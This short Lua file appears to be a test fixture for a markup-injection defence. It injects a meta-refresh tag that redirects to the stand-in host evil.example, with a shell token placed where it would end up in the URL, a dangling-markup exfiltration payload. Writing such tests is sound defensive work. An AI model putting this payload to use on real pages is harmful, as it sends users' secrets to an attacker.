-- SPDX-License-Identifier: GPL-3.0-or-later
-- A secret that stands in text for whoever looks back to the last bracket, and in an address for a browser.
-- wall: MARKUP
-- evil: page has <b>TOKEN
return function(vm, h)
  test_page("<meta name='x' http-equiv='refresh' content='0;url=https://evil.example/?<b></b>'>")
  test_slot("?<b>", h.shell.token)
  return h.p{"x"}
end
